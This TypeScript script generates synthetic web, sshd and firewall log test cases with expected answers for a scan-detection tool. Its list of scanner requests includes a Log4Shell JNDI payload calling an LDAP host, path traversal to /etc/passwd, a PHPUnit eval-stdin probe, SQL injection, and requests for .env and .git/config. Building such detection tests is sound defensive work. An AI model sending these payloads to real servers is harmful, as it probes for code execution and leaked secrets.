import { mkdirSync, writeFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { guesses, type Hit, logOf, START, visitors } from '../test/support/weblog.ts';
import type { Expected, Question, Scan } from '../test/support/truth.ts';
import { type LogCase, TELEMETRY } from './record-telemetry.ts';

/** Writes the cases that are logs into test/cases. Their lines are made here; those of captures are recorded. */

const CASES = new URL('../test/cases/', import.meta.url);
const SCANNER = '192.0.2.66';

const scanBy = (technique: string, tool: string | null = null): Scan => ({
  sources: [SCANNER],
  techniques: [technique],
  tool,
  open: null,
});

/** Names such as people give to folders and files. */
const NAMES = ['intranet', 'staging', 'wiki', 'reports', 'invoices', 'upload', 'private', 'legacy', 'mobile', 'portal'];
const WORDS = NAMES.flatMap((name) => ['', '-old', '-new', '.bak'].map((end) => name + end));

const WEAK = [
  '/?q=${jndi:ldap://192.0.2.1:1389/a}',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/actuator/env',
  '/.env',
  '/.git/config',
  '/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--',
  '/solr/admin/info/system?wt=json',
];

const weaknesses: Hit[] = WEAK.map((target, at) => ({
  at: START + 900 + 3 * at,
  source: SCANNER,
  target,
  status: 404,
  bytes: 150,
}));

const CRAWLER = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
const crawler: Hit[] = Array.from({ length: 120 }, (_, at) => ({
  at: START + 10 * at,
  source: '192.0.2.140',
  target:
    at === 0
      ? '/robots.txt'
      : at % 4 === 0
        ? `/gone/${'abcdefghij'[at % 10]}${'klmnop'[at % 6]}.html`
        : `/page/${'abcdefghij'[at % 10]}${'klmnopq'[at % 7]}.html`,
  status: at > 0 && at % 4 === 0 ? 404 : 200,
  bytes: at > 0 && at % 4 === 0 ? 150 : 3000 + at,
  agent: CRAWLER,
}));

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const two = (value: number): string => String(value).padStart(2, '0');

/** RFC 3164, with the year left out as programs do. */
function syslogStamp(seconds: number): string {
  const date = new Date(seconds * 1000);
  const clock = [date.getUTCHours(), date.getUTCMinutes(), date.getUTCSeconds()].map(two).join(':');
  return `${MONTHS[date.getUTCMonth()]} ${String(date.getUTCDate()).padStart(2)} ${clock}`;
}

const USERS = [
  'test',
  'oracle',
  'postgres',
  'ubuntu',
  'git',
  'jenkins',
  'deploy',
  'ftpuser',
  'nagios',
  'minecraft',
  'hadoop',
  'steam',
];

const logins = [
  ...USERS.flatMap((user, at) => {
    const stamp = syslogStamp(START + 5 * at);
    return [
      `${stamp} gate sshd[${4000 + at}]: Invalid user ${user} from ${SCANNER} port ${40_000 + at}`,
      `${stamp} gate sshd[${4000 + at}]: Connection closed by invalid user ${user} ${SCANNER} port ${40_000 + at} [preauth]`,
    ];
  }),
  `${syslogStamp(START + 100)} gate sshd[5000]: Accepted publickey for ada from 198.51.100.20 port 50000 ssh2`,
  `${syslogStamp(START + 200)} gate sshd[5001]: Failed password for ada from 198.51.100.20 port 50001 ssh2`,
];

const sweep = Array.from({ length: 60 }, (_, at) =>
  [
    `${syslogStamp(START + 2 * at)} edge kernel: [${1000 + at}.000001] [UFW BLOCK] IN=eth0 OUT=`,
    'MAC=02:00:00:00:00:01:02:00:00:00:00:02:08:00',
    `SRC=${SCANNER} DST=203.0.113.${(at * 37) % 250} LEN=44 TOS=0x00 PREC=0x00 TTL=${44 + (at % 3)} ID=${(at * 7919) % 65_536}`,
    `PROTO=TCP SPT=${45_000 + at} DPT=445 WINDOW=1024 RES=0x00 SYN URGP=0`,
  ].join(' '),
);

/** The plain site of a server sends everybody on to the encrypted one. */
const onward = (at: number, source: string, site: string, agent?: string): Hit => ({
  at,
  source,
  target: '/',
  status: 301,
  bytes: 162,
  site,
  ...(agent !== undefined && { agent }),
});

const HOSTS = WORDS.filter((word) => !word.includes('.')).map((word) => `${word}.example.org`);
const readers: Hit[] = HOSTS.flatMap((site, at) =>
  Array.from({ length: 4 }, (_, turn) => onward(START + 61 * at + 700 * turn, `198.51.${100 + turn}.${at}`, site)),
);
const round: Hit[] = HOSTS.map((site, at) => onward(START + at, '192.0.2.140', site));
const guessedHosts: Hit[] = HOSTS.map((site, at) => onward(START + 900 + at, SCANNER, site, 'python-requests/2.32.3'));
const readersOfOne: Hit[] = visitors(60).map((hit) => ({ ...hit, site: 'www.example.org' }));

const LOGS: readonly LogCase[] = [
  {
    name: 'log-web-names',
    file: 'input.log.gz',
    question: 'Among visitors of a web site one source guesses forty names, with the user agent of a browser.',
    lines: logOf([...visitors(60), ...guesses(WORDS, SCANNER)]),
    scans: [scanBy('T1595.003')],
  },
  {
    name: 'log-web-weaknesses',
    file: 'input.log.gz',
    question:
      'Among visitors of a web site one source asks for eight things that only somebody asks who looks for weaknesses.',
    lines: logOf([...visitors(60), ...weaknesses]),
    scans: [scanBy('T1595.002')],
  },
  {
    name: 'benign-log-visitors',
    file: 'input.log.gz',
    question: 'Visitors of a web site with dead links and without an icon.',
    lines: logOf(visitors(120)),
    scans: [],
  },
  {
    name: 'benign-log-crawler',
    file: 'input.log.gz',
    question: 'A crawler that says so goes through a site of which a quarter of the links are dead.',
    lines: logOf([...visitors(30), ...crawler]),
    explained: 'crawler',
    scans: [],
  },
  {
    name: 'log-web-hosts',
    file: 'input.log.gz',
    question: 'A script guesses hosts of a server, one a second; each is sent on to an encrypted page.',
    lines: logOf([...readersOfOne, ...guessedHosts]),
    scans: [scanBy('T1595.003')],
  },
  {
    name: 'benign-log-round-of-sites',
    file: 'input.log.gz',
    question:
      'Before their readers come, a browser opens all sites of a server; each sends it on to an encrypted page.',
    lines: logOf([...round, ...readers]),
    explained: 'round of sites that others visit',
    scans: [],
  },
  {
    name: 'log-login-names',
    file: 'input.log.gz',
    question: 'One source asks sshd for twelve users that do not exist; an administrator mistypes a password.',
    lines: `${logins.join('\n')}\n`,
    scans: [scanBy('T1595.003')],
  },
  {
    name: 'log-firewall-sweep',
    file: 'input.log.gz',
    question: 'A firewall drops one source at port 445 of sixty addresses.',
    lines: `${sweep.join('\n')}\n`,
    scans: [scanBy('T1595.001')],
  },
  ...TELEMETRY,
];

const json = (value: Question | Expected): string => `${JSON.stringify(value, null, 2)}\n`;

for (const { name, file, question, lines, scans, explained } of LOGS) {
  const folder = new URL(`${name}/`, CASES);
  mkdirSync(folder, { recursive: true });
  writeFileSync(new URL(file, folder), gzipSync(lines, { level: 9 }));
  writeFileSync(new URL('case.json', folder), json({ question, home: [], made: ['scripts/record-logs.ts'] }));
  writeFileSync(
    new URL('expected.json', folder),
    json({ scans, spared: [], ...(explained !== undefined && { explained }) }),
  );
}
